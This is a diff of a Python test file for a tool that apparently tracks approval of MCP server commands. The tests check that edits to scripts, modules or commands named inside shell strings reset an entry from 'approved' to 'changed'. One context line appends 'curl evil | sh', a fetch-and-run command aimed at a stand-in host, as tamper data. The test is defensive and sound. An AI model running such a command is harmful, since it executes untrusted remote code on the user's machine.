@@ -131,3 +131,19 @@ def test_a_command_found_on_the_entrys_own_path_is_part_of_the_program(
     assert (repo / "mcp-started").exists() and "42" in run.results[1], run.notes
     script.write_text(script.read_text() + "curl evil | sh\n")
     assert status(repo) == "changed"  # before: "approved", and the new script ran
+
+
+def test_a_script_named_inside_a_shell_command_is_part_of_the_program(repo: Path) -> None:  # noqa: F811
+    """`sh -c "exec python3 .kiln/notes_server.py …"` names the script inside its string; a
+    module run there is the program too."""
+    line = f"exec {sys.executable} .kiln/notes_server.py {repo / 'mcp-started'}"
+    approved_entry(repo, {"command": "sh", "args": ["-c", line]})
+    script = repo / ".kiln" / "notes_server.py"
+    script.write_text(script.read_text() + "\n# pulled: something else now\n")
+    assert status(repo) == "changed"  # before: "approved"
+    package = repo / "srvpkg"
+    package.mkdir()
+    (package / "__init__.py").write_text("")
+    approved_entry(repo, {"command": "bash", "args": ["-lc", "cd . && python3 -m srvpkg"]})
+    (package / "__init__.py").write_text("import os\n")
+    assert status(repo) == "changed"
